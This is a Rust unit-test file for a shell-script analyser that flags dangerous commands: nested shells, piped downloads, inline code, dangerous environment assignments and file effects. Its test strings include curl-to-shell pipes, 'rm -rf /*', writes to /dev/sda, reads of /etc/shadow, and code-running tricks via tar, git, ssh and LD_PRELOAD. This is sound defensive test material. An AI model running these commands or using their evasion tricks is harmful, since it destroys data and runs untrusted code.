//! Unit tests of the analysis, one behaviour each.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use super::analysis::{ArgValue, EffectKind, FindingKind, Stdin, TargetKind};
use super::{Analysis, Dialect, Positional, Request, analyze};

fn request(script: &str, cwd: &Path) -> Request {
    Request {
        script: script.as_bytes().to_vec(),
        max_bytes: super::MAX_COMMAND_BYTES,
        positional: Positional {
            dollar0: "bash".into(),
            args: vec!["first".into(), "two words".into()],
        },
        cwd: cwd.to_path_buf(),
        home: Some("/home/u".into()),
        env: HashMap::from([
            ("HOME".to_string(), "/home/u".to_string()),
            ("PATH".to_string(), "/usr/bin:/bin".to_string()),
        ]),
        trust_env: true,
        dialect: Dialect::Bash,
        budget: Duration::from_secs(5),
    }
}

fn a(script: &str) -> Analysis {
    analyze(request(script, Path::new("/work/project")))
}

/// argv[0] of every command (literal), in order.
fn names(an: &Analysis) -> Vec<String> {
    an.commands
        .iter()
        .filter_map(|c| c.name().map(str::to_string))
        .collect()
}

fn has_cmd(script: &str, name: &str) -> bool {
    let an = a(script);
    assert!(an.opaque.is_none(), "{script}: opaque {:?}", an.opaque);
    names(&an).iter().any(|n| n == name)
}

fn finds(script: &str, kind: FindingKind) -> bool {
    let an = a(script);
    assert!(an.opaque.is_none(), "{script}: opaque {:?}", an.opaque);
    an.has(kind)
}

fn argv(script: &str, index: usize) -> Vec<Option<String>> {
    let an = a(script);
    assert!(an.opaque.is_none(), "{script}: opaque {:?}", an.opaque);
    an.commands[index]
        .argv
        .iter()
        .map(|w| w.lit().map(str::to_string))
        .collect()
}

fn s(x: &str) -> Option<String> {
    Some(x.to_string())
}

#[test]
fn sees_commands_in_every_construct() {
    for script in [
        "a; rm x",
        "a && rm x",
        "a || rm x",
        "a | rm x",
        "a |& rm x",
        "rm x &",
        "! rm x",
        "time rm x",
        "time -p rm x",
        "(rm x)",
        "{ rm x; }",
        "if a; then rm x; fi",
        "if a; then b; elif rm x; then c; fi",
        "if a; then b; else rm x; fi",
        "while a; do rm x; done",
        "until rm x; do b; done",
        "for i in 1 2; do rm x; done",
        "for ((i=0;i<2;i++)); do rm x; done",
        "select x in a b; do rm x; done",
        "case y in y) rm x;; esac",
        "case y in (y) a;; *) rm x;& z) b;;& esac",
        "f() { rm x; }",
        "function f { rm x; }",
        "f() ( rm x )",
        "coproc rm x",
        "coproc N { rm x; }",
        "echo $(rm x)",
        "echo `rm x`",
        "echo \"$(rm x)\"",
        "diff <(rm x) <(b)",
        "tee >(rm x)",
        "cat <<EOF\n$(rm x)\nEOF\n",
        "cat <<< \"$(rm x)\"",
        "echo $(( $(rm x) + 1 ))",
        "(( y = $(rm x) ))",
        "[[ $(rm x) ]]",
        "echo ${y:-$(rm x)}",
        "echo ${arr[$(rm x)]}",
        "y=$(rm x)",
        "a=(1 $(rm x))",
        "y[$(rm x)]=1",
        "declare y=$(rm x)",
        "echo $[ $(rm x) ]",
        "for y in $(rm x); do :; done",
        "case $(rm x) in *) ;; esac",
        "echo $(echo $(echo $(rm x)))",
        "echo `echo \\`rm x\\``",
        "echo `echo \\$(rm x)`",
        "echo `echo \"\\$(rm x)\"`",
        "echo $(case y in y) rm x;; esac)",
        "echo $(cat <<EOF\n)\nEOF\nrm x)",
        "echo $( (rm x) )",
        "((rm x) )",
        "( (rm x) )",
        "{fd}>/tmp/y rm x",
        "\\rm x",
        "'rm' x",
        "r\"\"m x",
        "$'\\x72m' x",
        "$'\\162\\155' x",
    ] {
        assert!(
            has_cmd(script, "rm"),
            "missed rm in {script:?}: {:?}",
            names(&a(script))
        );
    }
}

#[test]
fn sees_no_commands_in_quoted_text() {
    for script in [
        "cat <<'EOF'\n$(rm x)\nEOF\n",
        "cat <<\"EOF\"\n$(rm x)\nEOF\n",
        "echo '$(rm x)'",
        "echo \"\\$(rm x)\"",
        "echo hi # ; rm x",
        "git commit -m \"fix: \\$(stuff)\"",
        "((rm))",
    ] {
        assert!(
            !has_cmd(script, "rm") && !has_cmd(script, "stuff"),
            "{script:?}"
        );
    }
}

#[test]
fn marks_variable_executable_dynamic() {
    for script in [
        "$x -rf /",
        "\"$x\" y",
        "$(echo rm) y",
        "`echo rm` y",
        "*rm y",
        "{rm,x} y",
        "${X:-rm} y",
        "$UNSET_VAR rm y",
    ] {
        assert!(finds(script, FindingKind::DynamicExecutable), "{script:?}");
    }
    assert!(!finds("rm y", FindingKind::DynamicExecutable));
    // A positional parameter is literal (known argument) but still a
    // parameter: reported as a dynamic name, its value kept.
    assert!(finds("$0 -c 'true'", FindingKind::DynamicExecutable));
    assert_eq!(argv("$0 -c 'true'", 0)[0], s("bash"));
}

#[test]
fn words_are_literal_after_quote_removal_and_expansion() {
    assert_eq!(
        argv("echo 'a b' \"c\"d e\\ f", 0),
        [s("echo"), s("a b"), s("cd"), s("e f")]
    );
    assert_eq!(
        argv("echo $'a\\tb' $'\\u00e9'", 0),
        [s("echo"), s("a\tb"), s("é")]
    );
    assert_eq!(
        argv("echo x{a,b}y {1..3}", 0),
        [s("echo"), s("xay"), s("xby"), s("1"), s("2"), s("3")]
    );
    assert_eq!(
        argv("echo ~ ~/x '~'", 0),
        [s("echo"), s("/home/u"), s("/home/u/x"), s("~")]
    );
    assert_eq!(argv("echo ~root/x", 0), [s("echo"), s("/root/x")]);
    assert_eq!(
        argv("echo $0 \"$1\" \"$@\" $#", 0),
        [
            s("echo"),
            s("bash"),
            s("first"),
            s("first"),
            s("two words"),
            s("2")
        ]
    );
    assert_eq!(argv("echo $'a\\0b'c", 0), [s("echo"), s("ac")]);
    let an = a("echo $(x) *.rs \"$HOME\"");
    let echo = an
        .commands
        .iter()
        .find(|c| c.name() == Some("echo"))
        .unwrap();
    assert!(matches!(echo.argv[1].value, ArgValue::Dynamic { .. }));
    assert!(matches!(echo.argv[2].value, ArgValue::Glob { .. }));
    assert_eq!(echo.argv[3].known(), Some("/home/u"));
}

#[test]
fn positional_arguments_are_unknown_inside_functions_and_after_shift() {
    let an = a("f() { echo $1; }; shift; echo $1");
    assert!(
        an.commands
            .iter()
            .all(|c| c.argv.get(1).is_none_or(|w| w.lit().is_none()))
    );
}

#[test]
fn sees_through_wrappers() {
    for (script, via) in [
        ("env X=1 -u Y rm x", "env"),
        ("env -i -- rm x", "env"),
        ("env -S 'rm x'", "env -S"),
        ("command rm x", "command"),
        ("command -p rm x", "command"),
        ("builtin rm x", "builtin"),
        ("exec rm x", "exec"),
        ("exec -a name rm x", "exec"),
        ("nohup rm x", "nohup"),
        ("nice -n 5 rm x", "nice"),
        ("nice -5 rm x", "nice"),
        ("ionice -c 3 rm x", "ionice"),
        ("/usr/bin/time -f %e rm x", "time"),
        ("timeout -s KILL 5 rm x", "timeout"),
        ("timeout 10s rm x", "timeout"),
        ("stdbuf -oL rm x", "stdbuf"),
        ("setsid -w rm x", "setsid"),
        ("sudo -u root -E rm x", "sudo"),
        ("sudo -- rm x", "sudo"),
        ("doas -u root rm x", "doas"),
        ("xargs -0 -n 1 rm x", "xargs"),
        ("find . -name y -exec rm {} \\;", "find -exec"),
        ("find . -execdir rm {} +", "find -execdir"),
        ("find . -ok rm {} \\;", "find -ok"),
        ("watch -n 1 rm x", "watch"),
        ("watch -x rm x", "watch -x"),
        ("parallel rm ::: a b", "parallel"),
        ("flock /tmp/l rm x", "flock"),
        ("flock /tmp/l -c 'rm x'", "flock -c"),
        ("chroot /srv rm x", "chroot"),
        ("busybox rm x", "busybox"),
        ("sudo env X=1 nice rm x", "nice"),
    ] {
        let an = a(script);
        assert!(an.opaque.is_none(), "{script}: {:?}", an.opaque);
        let rm = an.commands.iter().find(|c| c.name() == Some("rm"));
        let rm = rm.unwrap_or_else(|| panic!("{script}: no rm in {:?}", names(&an)));
        assert!(
            rm.via.iter().any(|v| v == via),
            "{script}: via {:?}",
            rm.via
        );
    }
}

#[test]
fn xargs_and_find_placeholders_are_dynamic() {
    let an = a("ls | xargs rm");
    let rm = an.commands.iter().find(|c| c.name() == Some("rm")).unwrap();
    assert!(rm.argv.last().unwrap().lit().is_none());
    let an = a("find . -exec rm {} \\;");
    let rm = an.commands.iter().find(|c| c.name() == Some("rm")).unwrap();
    assert!(rm.argv[1].lit().is_none());
}

#[test]
fn recurses_into_literal_nested_shells() {
    for script in [
        "bash -c 'rm x'",
        "sh -c 'rm x'",
        "bash -lc 'rm x'",
        "bash -ec 'rm x'",
        "bash -c -l 'rm x'",
        "dash -c 'rm x'",
        "busybox sh -c 'rm x'",
        "eval 'rm x'",
        "eval rm x",
        "bash -c 'bash -c \"rm x\"'",
        "sudo bash -c 'rm x'",
        "find . -exec sh -c 'rm x' \\;",
        "xargs sh -c 'rm x'",
        "bash <<'EOF'\nrm x\nEOF\n",
        "bash <<< 'rm x'",
        "trap 'rm x' EXIT",
        "su -c 'rm x'",
        "zsh -c 'rm x'",
    ] {
        assert!(has_cmd(script, "rm"), "{script:?}: {:?}", names(&a(script)));
    }
}

#[test]
fn carries_positional_arguments_into_nested_shells() {
    let an = a("bash -c 'rm \"$1\" $0' me target");
    let rm = an.commands.iter().find(|c| c.name() == Some("rm")).unwrap();
    assert_eq!(rm.argv[1].lit(), Some("target"));
    assert_eq!(rm.argv[2].lit(), Some("me"));
    let an = a("sh -c '$1 x' sh rm");
    assert!(an.commands.iter().any(|c| c.name() == Some("rm")));
}

#[test]
fn reads_script_files_it_runs() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("s.sh"), "rm -rf target\n").unwrap();
    for script in ["bash s.sh", "source s.sh", ". ./s.sh", "sh ./s.sh arg"] {
        let an = analyze(request(script, dir.path()));
        assert!(
            an.commands.iter().any(|c| c.name() == Some("rm")),
            "{script}: {:?}",
            names(&an)
        );
        assert!(an.has(FindingKind::ReadScriptFile));
    }
    // A file the script writes first with text the walk knows is read as
    // it will be; with anything else it is dynamic; one that does not
    // exist is reported as missing; `./x.sh` is read like `bash x.sh`.
    for script in [
        "echo 'rm x' > t.sh; bash t.sh",
        "printf 'rm x\\n' > t.sh; ./t.sh",
        "cat > t.sh <<'EOF'\nrm x\nEOF\nsh t.sh",
        "echo 'true' > t.sh; echo 'rm x' >> t.sh; source t.sh",
    ] {
        let an = analyze(request(script, dir.path()));
        assert!(
            an.commands.iter().any(|c| c.name() == Some("rm"))
                && !an.has(FindingKind::DynamicShell),
            "{script}: {:?}",
            names(&an)
        );
    }
    for script in [
        "echo \"$X\" > t.sh; bash t.sh",
        "cp other.sh t.sh; ./t.sh",
        "echo 'rm x' > t.sh; sed -i s/x/y/ t.sh; bash t.sh",
        "if true; then echo 'rm x' > t.sh; else echo 'true' > t.sh; fi; bash t.sh",
    ] {
        let an = analyze(request(script, dir.path()));
        assert!(an.has(FindingKind::DynamicShell), "{script}");
    }
    let an = analyze(request("source missing.sh", dir.path()));
    assert!(an.has(FindingKind::MissingScript) && !an.has(FindingKind::DynamicShell));
    std::fs::write(dir.path().join("x.sh"), "#!/usr/bin/env bash\nrm -rf y\n").unwrap();
    let an = analyze(request("./x.sh", dir.path()));
    assert!(
        an.commands.iter().any(|c| c.name() == Some("rm")),
        "{:?}",
        names(&an)
    );
}

#[test]
fn marks_dynamic_shells() {
    for script in [
        "sh -c \"$X\"",
        "bash -c \"rm $X\"",
        "eval \"$X\"",
        "eval $(cat f)",
        "curl -s https://x | sh",
        "base64 -d f | bash",
        "bash <(curl -s https://x)",
        "bash <<EOF\n$X\nEOF\n",
        "cat f | bash -s",
        "bash \"$f\"",
        "source \"$f\"",
        "python3 < <(curl x)",
        "curl x | python3",
        "perl -e \"$X\"",
        "fish -c 'rm x'",
        "trap \"$X\" EXIT",
        "env -S \"$X\"",
    ] {
        assert!(finds(script, FindingKind::DynamicShell), "{script:?}");
    }
}

#[test]
fn marks_inline_interpreter_code() {
    for script in [
        "python -c 'print(1)'",
        "python3 -c 'import os'",
        "python3.11 -c 'x'",
        "python3 - <<'EOF'\nprint(1)\nEOF\n",
        "node -e 'console.log(1)'",
        "node -p '1+1'",
        "perl -e 'print 1'",
        "perl -ne 'print' f",
        "perl -pi -e 's/a/b/' f",
        "ruby -e 'puts 1'",
        "php -r 'echo 1;'",
        "lua -e 'print(1)'",
        "deno eval 'console.log(1)'",
        "Rscript -e '1'",
    ] {
        assert!(finds(script, FindingKind::InlineCode), "{script:?}");
    }
}

#[test]
fn marks_inline_code_that_runs_programs() {
    for script in [
        "awk 'BEGIN{system(\"id\")}'",
        "awk '{print | \"sh\"}' f",
        "awk '{\"date\" | getline d}'",
        "sed 's/a/b/e' f",
        "sed '1e id' f",
        "tar --checkpoint=1 --checkpoint-action=exec=id -cf x.tar .",
        "tar -cf x.tar -I 'sh -c id' .",
        "git -c core.pager='sh -c id' log",
        "git -c alias.x='!id' x",
        "git clone --upload-pack='id' repo",
        "git fetch -u id origin",
        "vim -c '!id' f",
        "vim +'!id' f",
        "less '+!id' f",
        "ssh -o ProxyCommand=id host",
        "rsync -e 'sh -c id' a b",
        "sort --compress-program=id f",
        "rg --pre id x",
    ] {
        assert!(finds(script, FindingKind::InlineExec), "{script:?}");
    }
    for script in [
        "awk '{print $1}' f",
        "awk '$3 > 100 {print}' f",
        "sed -n '1,5p' f",
        "git -c user.name=x commit -m y",
        "tar xzf a.tgz",
    ] {
        assert!(!finds(script, FindingKind::InlineExec), "{script:?}");
    }
}

#[test]
fn marks_runtime_sinks_and_parse_state_changes() {
    for script in [
        "x='a[$(id)]'; echo $((x))",
        "x=$(cat f); [[ $x -eq 1 ]]",
        "declare -i n",
        "printf -v 'a[$(id)]' %s x",
        "test -v 'a[$(id)]'",
        "[[ -v 'a[$(id)]' ]]",
        "read 'a[$(id)]' <<< x",
        "x='$(id)'; echo ${x@P}",
        "coproc cat",
        "unset 'a[$(id)]'",
        "let 'a[$(id)]'",
        "declare -n r='a[$(id)]'",
        "mapfile -C cb arr < f",
        "trap 'echo hi' EXIT",
    ] {
        assert!(finds(script, FindingKind::RuntimeSink), "{script:?}");
    }
    for script in [
        "alias ls='rm -rf /'",
        "shopt -s expand_aliases",
        "shopt -s extglob",
        "set -o posix",
        "set -k",
        "enable -n echo",
        "hash -p /bin/rm ls",
        "command_not_found_handle() { id; }",
    ] {
        assert!(finds(script, FindingKind::ParseStateChange), "{script:?}");
    }
    assert!(!finds(
        "shopt -u extglob; i=0; echo $((i+1))",
        FindingKind::ParseStateChange
    ));
    assert!(!finds("i=0; echo $((i+1))", FindingKind::RuntimeSink));
}

#[test]
fn marks_dangerous_and_automode_assignments() {
    for script in [
        "BASH_ENV=x bash -c true",
        "ENV=x sh",
        "PROMPT_COMMAND=id",
        "PS4='$(id)'",
        "IFS=/",
        "PATH=/tmp:$PATH",
        "export PATH=/tmp",
        "LD_PRELOAD=/tmp/x.so ls",
        "LD_LIBRARY_PATH=. ls",
        "GIT_SSH_COMMAND=id git fetch",
        "GIT_PAGER=id git log",
        "PAGER=id man ls",
        "LESSOPEN='|id' less f",
        "env 'BASH_FUNC_ls%%=() { id; }' bash -c ls",
        "declare -x BASHOPTS=expand_aliases",
        "read PATH",
        "for PATH in /tmp; do ls; done",
        "export -f ls",
    ] {
        assert!(
            finds(script, FindingKind::DangerousAssignment),
            "{script:?}"
        );
    }
    assert!(finds(
        "AUTOMODE_SUPERVISOR=x bash",
        FindingKind::AutomodeAssignment
    ));
    assert!(finds(
        "ls; AUTOMODE_TIMEOUT=5 cargo test",
        FindingKind::AutomodeAssignment
    ));
    let an = a("AUTOMODE_TIMEOUT=1800 AUTOMODE_OUTPUT_LIMIT=99 cargo test");
    assert_eq!(an.limits.timeout.as_deref(), Some("1800"));
    assert_eq!(an.limits.output_limit.as_deref(), Some("99"));
    assert!(!an.has(FindingKind::AutomodeAssignment));
    let an = a("AUTOMODE_TIMEOUT=60; make");
    assert_eq!(an.limits.timeout.as_deref(), Some("60"));
}

fn effects(script: &str, cwd: &Path) -> Vec<(EffectKind, Option<PathBuf>, TargetKind)> {
    let an = analyze(request(script, cwd));
    assert!(an.opaque.is_none(), "{script}: {:?}", an.opaque);
    an.effects
        .iter()
        .map(|e| (e.kind, e.path.clone(), e.target))
        .collect()
}

#[test]
fn redirections_are_file_effects() {
    let cwd = Path::new("/work/p");
    let p = |x: &str| Some(PathBuf::from(x));
    use EffectKind::*;
    use TargetKind::Literal;
    assert_eq!(effects("echo > f", cwd), [(Write, p("/work/p/f"), Literal)]);
    assert_eq!(
        effects("echo >> f", cwd),
        [(Append, p("/work/p/f"), Literal)]
    );
    assert_eq!(
        effects("echo >| /tmp/c", cwd),
        [(Write, p("/tmp/c"), Literal)]
    );
    assert_eq!(
        effects("echo &> f", cwd),
        [(Write, p("/work/p/f"), Literal)]
    );
    assert_eq!(
        effects("echo &>> f", cwd),
        [(Append, p("/work/p/f"), Literal)]
    );
    assert_eq!(
        effects("echo >& f", cwd),
        [(Write, p("/work/p/f"), Literal)]
    );
    assert_eq!(effects("cat < f", cwd), [(Read, p("/work/p/f"), Literal)]);
    assert_eq!(
        effects("cat 0</etc/shadow 2>/dev/null", cwd),
        [(Read, p("/etc/shadow"), Literal)]
    );
    assert_eq!(
        effects("exec 3<> f", cwd),
        [
            (Read, p("/work/p/f"), Literal),
            (Write, p("/work/p/f"), Literal)
        ]
    );
    assert_eq!(effects("echo 2>&1 1>&2", cwd), []);
    assert_eq!(
        effects("exec {fd}>/tmp/x", cwd),
        [(Write, p("/tmp/x"), Literal)]
    );
    assert_eq!(
        effects(">~/.bashrc echo x", cwd),
        [(Write, p("/home/u/.bashrc"), Literal)]
    );
    assert_eq!(
        effects("echo x > '/etc/pro'\"file\"", cwd),
        [(Write, p("/etc/profile"), Literal)]
    );
    let e = effects("echo x > \"$X/y\"", cwd);
    assert_eq!(e[0].2, TargetKind::Dynamic);
    let e = effects("echo x > \"$HOME/.profile\"", cwd);
    assert_eq!(e[0].1, p("/home/u/.profile"));
}

#[test]
fn commands_have_file_effects() {
    let cwd = Path::new("/work/p");
    let p = |x: &str| Some(PathBuf::from(x));
    use EffectKind::*;
    use TargetKind::{Glob, Literal};
    type Want = (EffectKind, Option<PathBuf>, TargetKind);
    let cases: &[(&str, &[Want])] = &[
        ("rm -rf build", &[(Delete, p("/work/p/build"), Literal)]),
        ("rm -- -f", &[(Delete, p("/work/p/-f"), Literal)]),
        ("rmdir d", &[(Delete, p("/work/p/d"), Literal)]),
        ("unlink f", &[(Delete, p("/work/p/f"), Literal)]),
        (
            "cp a b",
            &[
                (Read, p("/work/p/a"), Literal),
                (Write, p("/work/p/b"), Literal),
            ],
        ),
        (
            "cp -t /tmp a",
            &[(Read, p("/work/p/a"), Literal), (Write, p("/tmp"), Literal)],
        ),
        (
            "mv a b",
            &[
                (Delete, p("/work/p/a"), Literal),
                (Write, p("/work/p/b"), Literal),
            ],
        ),
        (
            "install -m 755 a /usr/local/bin/a",
            &[
                (Read, p("/work/p/a"), Literal),
                (Write, p("/usr/local/bin/a"), Literal),
            ],
        ),
        (
            "ln -s /etc/passwd l",
            &[
                (Create, p("/work/p/l"), Literal),
                (Write, p("/etc/passwd"), Literal),
            ],
        ),
        ("tee -a log", &[(Append, p("/work/p/log"), Literal)]),
        (
            "dd if=a of=/dev/sda",
            &[
                (Read, p("/work/p/a"), Literal),
                (Write, p("/dev/sda"), Literal),
            ],
        ),
        ("truncate -s 0 f", &[(Write, p("/work/p/f"), Literal)]),
        ("sed -i 's/a/b/' f", &[(Write, p("/work/p/f"), Literal)]),
        ("sed -n '1p' f", &[(Read, p("/work/p/f"), Literal)]),
        ("chmod -R 755 d", &[(Permission, p("/work/p/d"), Literal)]),
        ("chmod +x f", &[(Permission, p("/work/p/f"), Literal)]),
        ("chmod -x f", &[(Permission, p("/work/p/f"), Literal)]),
        ("chown root:root f", &[(Owner, p("/work/p/f"), Literal)]),
        ("chgrp staff f", &[(Owner, p("/work/p/f"), Literal)]),
        ("shred f", &[(Write, p("/work/p/f"), Literal)]),
        ("find /tmp -delete", &[(Delete, p("/tmp"), Literal)]),
        ("git clean -fdx", &[(Delete, p("/work/p"), Literal)]),
        ("git rm f", &[(Delete, p("/work/p/f"), Literal)]),
        ("git rm --cached f", &[]),
        ("mkdir -p a/b", &[(Create, p("/work/p/a/b"), Literal)]),
        ("touch f", &[(Create, p("/work/p/f"), Literal)]),
        ("cat a", &[(Read, p("/work/p/a"), Literal)]),
        ("head -n 5 a", &[(Read, p("/work/p/a"), Literal)]),
        ("grep -e x a", &[(Read, p("/work/p/a"), Literal)]),
        ("grep x a", &[(Read, p("/work/p/a"), Literal)]),
        ("awk '{print}' a", &[(Read, p("/work/p/a"), Literal)]),
        ("cut -d, -f1 a", &[(Read, p("/work/p/a"), Literal)]),
        (
            "sort -o out a",
            &[
                (Read, p("/work/p/a"), Literal),
                (Write, p("/work/p/out"), Literal),
            ],
        ),
        ("base64 a", &[(Read, p("/work/p/a"), Literal)]),
        (
            "xxd a b",
            &[
                (Read, p("/work/p/a"), Literal),
                (Write, p("/work/p/b"), Literal),
            ],
        ),
        ("rm *.o", &[(Delete, p("/work/p"), Glob)]),
        ("rm -rf /*", &[(Delete, p("/"), Glob)]),
    ];
    for (script, want) in cases {
        assert_eq!(effects(script, cwd), *want, "{script}");
    }
    let an = a("rm -rf a b c");
    assert!(an.effects.iter().all(|e| e.count == 3 && e.recursive));
    let an = a("rsync -a --delete src/ /backup/");
    assert!(
        an.effects
            .iter()
            .any(|e| e.kind == Delete && e.path == p("/backup"))
    );
}

#[test]
fn resolves_targets_through_cd_and_symlinks() {
    let dir = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(dir.path()).unwrap();
    std::fs::create_dir(root.join("sub")).unwrap();
    std::os::unix::fs::symlink("/etc", root.join("etc-link")).unwrap();
    let e = effects("cd sub && rm x", &root);
    assert_eq!(e[0].1, Some(root.join("sub/x")));
    let an = analyze(request("cd sub; rm x", &root));
    assert_eq!(an.effects[0].alternatives, vec![root.join("x")]);
    let e = effects("echo > etc-link/passwd", &root);
    assert_eq!(e[0].1, Some(PathBuf::from("/etc/passwd")));
    let an = analyze(request("rm etc-link", &root));
    assert_eq!(an.effects[0].lexical, Some(root.join("etc-link")));
    assert_eq!(an.effects[0].path, Some(PathBuf::from("/etc")));
    let e = effects("(cd /; rm x); rm y", &root);
    assert_eq!(e[1].1, Some(root.join("y")));
    let an = analyze(request("cd \"$(dirname x)\"; rm y", &root));
    assert_eq!(an.effects[0].path, None);
    let e = effects("rm -rf /./etc//../etc/", &root);
    assert_eq!(e[0].1, Some(PathBuf::from("/etc")));
}

#[test]
fn records_stdin_sources() {
    let an = a("curl x | sh");
    assert_eq!(an.commands[1].stdin, Stdin::Pipe);
    let an = a("cat <<'E'\nhi\nE\n");
    assert_eq!(
        an.commands[0].stdin,
        Stdin::Inline {
            text: Some("hi\n".into())
        }
    );
}

#[test]
fn dash_rejects_ansi_c_quotes() {
    let an = a("sh -c 'echo $'\\''\\'\\'' ; id #'\\'''");
    assert!(an.opaque.is_some() || an.commands.iter().any(|c| c.name() == Some("id")));
    let mut req = request("echo $'x'", Path::new("/"));
    req.dialect = Dialect::Posix;
    assert!(analyze(req).opaque.is_some());
}

#[test]
fn bounds_make_the_analysis_opaque_not_slow() {
    let big = "echo x; ".repeat(20_000);
    assert!(big.len() > super::MAX_COMMAND_BYTES);
    assert!(a(&big).opaque.is_some());
    for deep in [
        format!("{}x{}", "$(".repeat(10_000), ")".repeat(10_000)),
        format!("{}x{}", "{ ".repeat(10_000), "; }".repeat(10_000)),
        format!(
            "{}x{}",
            "if true; then ".repeat(10_000),
            "; fi".repeat(10_000)
        ),
        format!("{}x{}", "\"$(".repeat(10_000), ")\"".repeat(10_000)),
        format!("{}x{}", "( ".repeat(10_000), " )".repeat(10_000)),
        format!("echo {}x{}", "${a:-".repeat(10_000), "}".repeat(10_000)),
        format!("{}x{}", "`".repeat(2), "`".repeat(2)),
    ] {
        let start = Instant::now();
        let an = a(&deep);
        assert!(
            start.elapsed() < Duration::from_millis(500),
            "took {:?}",
            start.elapsed()
        );
        let _ = an;
    }
    let ifs = format!(
        "{}true{}",
        "if true; then ".repeat(10_000),
        "; fi".repeat(10_000)
    );
    assert!(a(&ifs).opaque.is_some());
    assert!(a("\u{0}").opaque.is_some());
}

#[test]
fn analyses_a_large_script_quickly() {
    let mut script = String::new();
    while script.len() < 120 * 1024 {
        script.push_str(
            "cargo test --all-features 2>&1 | tail -n 20 && git status --short > /tmp/s.txt\n",
        );
    }
    let start = Instant::now();
    let an = a(&script);
    assert!(an.opaque.is_none());
    assert!(start.elapsed() < Duration::from_secs(2));
}

#[test]
fn walking_item_by_item_matches_walking_the_whole_tree() {
    let cwd = Path::new("/work/project");
    for script in [
        "cat <<EOF; echo $(date)\nbody $(rm -rf x)\nEOF\nrm y\n",
        "cat <<A <<'B' && ls; cd sub\na $HOME\nA\nb\nB\nrm -rf build > out.txt\n",
        "f() { cd /tmp; }\nf\nrm z\nX=1 env | grep X &\nwait\n",
        "for f in *.txt; do mv \"$f\" \"${f%.txt}.md\"; done\ncat <<EOF",
        "echo a; echo b\nif true; then\n  rm c\nfi\necho d )",
        "bash -c 'cd /etc && cat passwd'; PROMPT_COMMAND='rm -rf q'\n",
    ] {
        let req = request(script, cwd);
        let text = std::str::from_utf8(&req.script).unwrap();
        let streamed = super::run(text, &req, Instant::now() + req.budget);
        let whole = match super::parse::parse(text, &super::parse::Options::default()) {
            Ok(tree) => {
                let input = super::walk::Input {
                    positional: req.positional.clone(),
                    cwd: req.cwd.clone(),
                    home: req.home.clone(),
                    env: req.env.clone(),
                    trust_env: req.trust_env,
                    dialect: req.dialect,
                    deadline: None,
                };
                super::walk::walk(&tree, text, &input)
            }
            Err(e) => Analysis::opaque(format!("{} (at byte {})", e.message, e.offset)),
        };
        assert_eq!(streamed, whole, "{script}");
    }
}

#[test]
fn deep_large_scripts_move_to_a_big_stack_with_the_same_result() {
    // Larger than the inline size, nested past the caller's stack budget:
    // analysed again on the analysis thread, not made opaque.
    let pad = "ls -la\n".repeat(100);
    let deep = format!(
        "{pad}{}rm -rf build{}\n",
        "if true; then ".repeat(300),
        "; fi".repeat(300)
    );
    let an = a(&deep);
    assert!(an.opaque.is_none(), "{:?}", an.opaque);
    assert_eq!(names(&an).last().map(String::as_str), Some("rm"));
}

#[test]
fn self_referring_arithmetic_values_are_walked_once() {
    // Found by fuzzing: a value that names itself several times was walked
    // again for every mention, down to the depth limit (4^10 walks:
    // 349,525 identical findings, seconds and 700 MB for 300 bytes).
    let an = a("x='x + x + x + x + ${n[x]} + $(id)'; echo $(( x )) ${arr[x]}");
    let sinks = an
        .findings
        .iter()
        .filter(|f| f.detail.starts_with("arithmetic evaluates the value of x:"))
        .count();
    assert_eq!(sinks, 1, "{:#?}", an.findings);
    assert!(an.findings.len() < 20, "{:#?}", an.findings);
    // The substitution inside the value is still seen.
    assert!(names(&an).iter().any(|n| n == "id"), "{:?}", names(&an));
}

/// Found by the `analyze` fuzz target: a script that runs or sources a
/// FIFO or a terminal made the analysis wait forever in `open` or
/// `read`. Only regular files are read.
#[test]
fn running_or_sourcing_a_fifo_never_blocks_the_analysis() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let cwd = dir.path().to_path_buf();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for script in ["source ./pipe", ". ./pipe", "./pipe", "bash ./pipe"] {
            let an = analyze(request(script, &cwd));
            tx.send((script, an.opaque.is_some() || !an.findings.is_empty()))
                .unwrap();
        }
    });
    for _ in 0..4 {
        let got = rx.recv_timeout(Duration::from_secs(10));
        assert!(got.is_ok(), "the analysis blocked on a FIFO");
    }
}
